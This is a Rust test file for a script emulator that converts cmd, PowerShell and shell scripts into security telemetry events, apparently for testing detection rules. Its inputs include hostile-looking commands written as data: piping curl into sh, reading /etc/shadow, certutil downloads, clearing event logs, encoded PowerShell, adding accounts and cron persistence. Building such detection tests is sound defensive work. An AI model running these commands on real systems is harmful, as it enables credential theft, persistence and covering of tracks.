//! Scripts and the events that they would be recorded as.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, reason = "a test may fail anywhere")]

use proptest::prelude::*;
use ruleatlas_emulate::{EventKind, MAX_COMMANDS, Platform, Script, Shell, emulate, emulate_command_line};

fn run(platform: Platform, shell: Shell, text: &str) -> Vec<(EventKind, String, String)> {
    let found = emulate(&Script { platform, shell, text });
    let field = |event: &ruleatlas_emulate::EmulatedEvent, names: &[&str]| {
        names.iter().find_map(|name| event.field(name)).unwrap_or_default().to_owned()
    };
    let what = [
        "CommandLine",
        "process.command_line",
        "TargetObject",
        "TargetFilename",
        "file.path",
        "QueryName",
        "dns.question.name",
        "DestinationHostname",
        "DestinationIp",
        "destination.domain",
        "destination.ip",
        "ServiceName",
        "TaskName",
        "ScriptBlockText",
        "TargetUserName",
        "Channel",
    ];
    let who = ["ParentImage", "process.parent.executable", "Image", "process.executable"];
    // The shell of the script itself comes first.
    found.events.iter().skip(1).map(|event| (event.kind, field(event, &what), field(event, &who))).collect()
}

#[track_caller]
fn has(shell: Shell, text: &str, kind: EventKind, what: &str, who: &str) {
    let platform = if shell == Shell::Posix { Platform::Linux } else { Platform::Windows };
    let found = run(platform, shell, text);
    let is_wanted = |(own, value, by): &(EventKind, String, String)| {
        *own == kind && value == what && by.rsplit(['\\', '/']).next().unwrap_or_default().eq_ignore_ascii_case(who)
    };
    assert!(found.iter().any(is_wanted), "{text}\n{found:#?}");
}

/// The processes that a script starts, but its own shell.
fn started(platform: Platform, shell: Shell, text: &str) -> Vec<String> {
    run(platform, shell, text)
        .into_iter()
        .filter(|(kind, ..)| *kind == EventKind::Process)
        .map(|(_, line, _)| line)
        .collect()
}

#[test]
fn commands_start_processes_and_builtins_do_not() {
    use Shell::{Cmd, Posix, PowerShell};
    let windows = |shell, text| started(Platform::Windows, shell, text);
    assert_eq!(windows(Cmd, "echo x\r\nwhoami /all & cd c:\\ | findstr a"), ["whoami /all", "findstr a"]);
    assert_eq!(windows(Cmd, "if not exist c:\\x (mkdir c:\\x)\nif exist a.txt net user"), ["net user"]);
    assert_eq!(windows(Cmd, "for /f %i in ('dir') do @whoami %i"), ["whoami %i"]);
    assert_eq!(windows(Cmd, "set T=%temp%\\a.exe\n%T% -x"), [r"C:\Users\user\AppData\Local\Temp\a.exe -x"]);
    assert_eq!(windows(Cmd, "start /b \"t\" calc.exe\nstart notepad a.txt").len(), 2);
    assert_eq!(
        windows(PowerShell, "Get-Process | Out-Null; net.exe user x"),
        ["\"C:\\Windows\\System32\\net.exe\" user x"]
    );
    assert_eq!(windows(PowerShell, "$p = \"C:\\a b.exe\"\n& $p -x 'y z'"), ["\"C:\\a b.exe\" -x 'y z'"]);
    assert_eq!(windows(PowerShell, "if ($a) { whoami } else { hostname }").len(), 2);
    assert_eq!(windows(PowerShell, "Start-Process -FilePath calc.exe -ArgumentList '/x','y'").len(), 1);
    let linux = |text| started(Platform::Linux, Posix, text);
    assert_eq!(linux("X=/tmp/a\ncp /bin/sh $X && ${X} -c id"), ["cp /bin/sh /tmp/a", "/tmp/a -c id"]);
    assert_eq!(linux("echo `uname -a` \"$(id -u)\""), ["uname -a", "id -u"]);
    assert_eq!(linux("if [ -f /etc/shadow ]; then cat /etc/shadow; fi"), ["cat /etc/shadow"]);
    assert_eq!(linux("for i in 1 2; do curl x; done"), ["curl x"]);
    assert_eq!(linux("sudo -u root useradd -m x"), ["sudo -u root useradd -m x", "useradd -m x"]);
}

#[test]
fn commands_inside_commands_are_children_of_what_starts_them() {
    use EventKind::{Process, Script as Logged};
    use Shell::{Cmd, Posix, PowerShell};
    has(Cmd, "cmd /c \"whoami /all\"", Process, "whoami /all", "cmd.exe");
    has(Cmd, "powershell -nop -c \"& whoami\"", Process, "\"C:\\Windows\\System32\\whoami.exe\"", "powershell.exe");
    has(Cmd, "powershell -nop -ep bypass -enc dwBoAG8AYQBtAGkA", Logged, "whoami", "");
    has(Cmd, "powershell.exe -w hidden Get-Process", Logged, "Get-Process", "");
    has(Cmd, "wmic process call create \"notepad a.txt\"", Process, "notepad a.txt", "WmiPrvSE.exe");
    has(PowerShell, "iex 'whoami /priv'", Logged, "whoami /priv", "");
    has(PowerShell, "cmd.exe /c ver \"&\" whoami /all", Process, "whoami /all", "cmd.exe");
    has(
        PowerShell,
        "Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc.exe'",
        Process,
        "calc.exe",
        "WmiPrvSE.exe",
    );
    has(Posix, "bash -c 'id; whoami'", Process, "whoami", "bash");
    has(Posix, "nohup sh -c \"nc -l 80\" &", Process, "nc -l 80", "sh");
    has(Posix, "echo x | xargs -n 1 rm -f", Process, "rm -f", "xargs");
}

#[test]
fn commands_change_registry_files_services_and_accounts() {
    use EventKind::{
        Account, Dns, File, FileDeletion, LogCleared, Network, RegistryDeletion, RegistryValue, Service, Task,
    };
    use Shell::{Cmd, Posix, PowerShell};
    let user = r"HKU\S-1-5-21-1111111111-2222222222-3333333333-1001";
    has(
        Cmd,
        "reg add HKCU\\Software\\A /v B /t REG_DWORD /d 1 /f",
        RegistryValue,
        &format!("{user}\\Software\\A\\B"),
        "reg.exe",
    );
    has(Cmd, "reg delete HKLM\\A /v B /f", RegistryDeletion, r"HKLM\A\B", "reg.exe");
    has(
        PowerShell,
        "Set-ItemProperty -Path HKLM:\\A\\B -Name C -Value 1",
        RegistryValue,
        r"HKLM\A\B\C",
        "powershell.exe",
    );
    has(
        PowerShell,
        "New-ItemProperty Registry::HKEY_LOCAL_MACHINE\\A C 1",
        RegistryValue,
        r"HKLM\A\C",
        "powershell.exe",
    );
    has(Cmd, "echo x > c:\\a.txt", File, r"c:\a.txt", "cmd.exe");
    has(Cmd, "copy a.exe %public%\\", File, r"C:\Users\Public\a.exe", "cmd.exe");
    has(Cmd, "del c:\\a.txt", FileDeletion, r"c:\a.txt", "cmd.exe");
    has(PowerShell, "iwr https://a.example.com/x -OutFile C:\\x.exe", File, r"C:\x.exe", "powershell.exe");
    has(PowerShell, "iwr https://a.example.com/x", Dns, "a.example.com", "powershell.exe");
    has(Cmd, "certutil -urlcache -f http://10.0.0.1:8080/a c:\\b.exe", Network, "10.0.0.1", "certutil.exe");
    has(Cmd, "certutil -urlcache -f http://10.0.0.1:8080/a c:\\b.exe", File, r"c:\b.exe", "certutil.exe");
    has(Cmd, "sc create svc binPath= \"C:\\a.exe\" start= auto", Service, "svc", "");
    has(Cmd, "schtasks /create /tn x /tr calc /sc daily", Task, "\\x", "");
    has(Cmd, "net user a b /add", Account, "a", "");
    has(Cmd, "wevtutil cl Security", LogCleared, "", "");
    has(Posix, "echo '* * * * * id' >> /etc/cron.d/x", File, "/etc/cron.d/x", "sh");
    has(Posix, "curl -o /tmp/x https://a.example.com", Dns, "a.example.com", "curl");
    has(Posix, "rm -rf /var/log/x", FileDeletion, "/var/log/x", "rm");
}

#[test]
fn a_command_line_is_one_process_and_what_it_starts() {
    let lines = |text, platform| -> Vec<String> {
        let found = emulate_command_line(text, platform);
        let line = |event: &ruleatlas_emulate::EmulatedEvent| {
            event.field("CommandLine").or_else(|| event.field("process.command_line")).map(str::to_owned)
        };
        found.events.iter().filter_map(line).collect()
    };
    assert_eq!(
        lines("cmd.exe /c \"whoami & net user\"", Platform::Windows),
        ["cmd.exe /c \"whoami & net user\"", "whoami", "net user"]
    );
    assert_eq!(lines("bash -c 'id | tee x'", Platform::Linux), ["bash -c 'id | tee x'", "id", "tee x"]);
    assert_eq!(lines("curl x | sh && id > /tmp/o", Platform::Linux), ["curl x", "sh", "id"]);
    assert_eq!(lines("whoami & net user", Platform::Windows), ["whoami", "net user"]);
    assert_eq!(lines("nohup /tmp/.x/m --p a:1 &", Platform::Linux), ["nohup /tmp/.x/m --p a:1", "/tmp/.x/m --p a:1"]);
    assert!(lines("", Platform::Windows).is_empty());
}

#[test]
fn the_command_that_connects_is_the_one_that_is_started_last() {
    let hosts = |text, platform| -> Vec<String> {
        let events = emulate_command_line(text, platform).events;
        let of_dns = events.iter().filter(|event| event.kind == EventKind::Dns);
        let who = |event: &ruleatlas_emulate::EmulatedEvent| {
            event.field("Image").or_else(|| event.field("process.executable")).unwrap_or_default().to_owned()
        };
        of_dns.map(who).collect()
    };
    let curl = "/usr/bin/curl";
    assert_eq!(hosts("bash -c 'curl https://a.example.com'", Platform::Linux), [curl]);
    assert_eq!(hosts("sudo curl https://a.example.com", Platform::Linux), [curl]);
    assert_eq!(hosts("cmd /c curl https://a.example.com", Platform::Windows), [r"C:\Windows\System32\curl.exe"]);
    let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    assert_eq!(hosts("powershell -c \"iwr https://a.example.com\"", Platform::Windows), [powershell]);
}

#[test]
fn the_list_of_a_loop_is_no_command() {
    let windows = |text| started(Platform::Windows, Shell::Cmd, text);
    assert_eq!(windows("for %a in (1 2) do net user x%a /add"), ["net user x%a /add"]);
    assert_eq!(windows("@for /l %i in (1,1,9) do @ping %i"), ["ping %i"]);
    assert_eq!(windows("for /f %i in ('whoami /groups') do echo %i"), ["whoami /groups"]);
    assert_eq!(windows("(whoami) & (net user)"), ["whoami", "net user"]);
    assert_eq!(started(Platform::Linux, Shell::Posix, "for i in 1 2; do curl $i; done"), ["curl $i"]);
}

#[test]
fn what_is_too_much_is_said() {
    let note = |text: &str, shell| emulate(&Script { platform: Platform::Windows, shell, text }).notes;
    assert!(note(&"whoami\n".repeat(MAX_COMMANDS + 1), Shell::Cmd)[0].contains("2000 commands"));
    assert!(note(&"a".repeat((1 << 20) + 1), Shell::Cmd)[0].contains("longer than"));
    let nested = format!("{}whoami", "cmd /c ".repeat(50));
    assert!(note(&nested, Shell::Cmd)[0].contains("nested too deep"));
    // Texts that cost most where each part is looked at again and again.
    for text in [
        "$(".repeat(100_000),
        "${".repeat(100_000),
        "\"".repeat(100_001),
        "%a".repeat(100_000),
        "cmd /c ".repeat(20_000),
        "a>".repeat(100_000),
        "@'".repeat(100_000),
        "://".repeat(100_000),
        "http://a".repeat(50_000),
    ] {
        for shell in [Shell::Cmd, Shell::PowerShell, Shell::Posix] {
            let _ = emulate(&Script { platform: Platform::Windows, shell, text: &text });
        }
    }
}

proptest! {
    #[test]
    fn no_script_panics(text in "(?s)[a-z$%!{}()\\[\\]'\"`^&|;<>@#=/\\\\ \n.:-]{0,80}|.{0,60}") {
        for platform in Platform::ALL {
            for shell in [Shell::Cmd, Shell::PowerShell, Shell::Posix] {
                let found = emulate(&Script { platform, shell, text: &text });
                prop_assert!(!found.events.is_empty());
            }
            let _ = emulate_command_line(&text, platform);
        }
    }

    #[test]
    fn no_command_panics(
        name in prop::sample::select(vec!["reg", "sc", "schtasks", "net", "wevtutil", "cmd", "powershell", "bash", "sudo", "timeout", "wmic", "Set-ItemProperty", "Start-Process", "iex", "Invoke-WmiMethod", "copy", "if", "for", "set", "start"]),
        rest in prop::collection::vec("[-/a-zA-Z:=\\\\\"'$%é ]{0,8}", 0..6),
    ) {
        let text = format!("{name} {}", rest.join(" "));
        for shell in [Shell::Cmd, Shell::PowerShell, Shell::Posix] {
            let _ = emulate(&Script { platform: Platform::Windows, shell, text: &text });
        }
    }
}
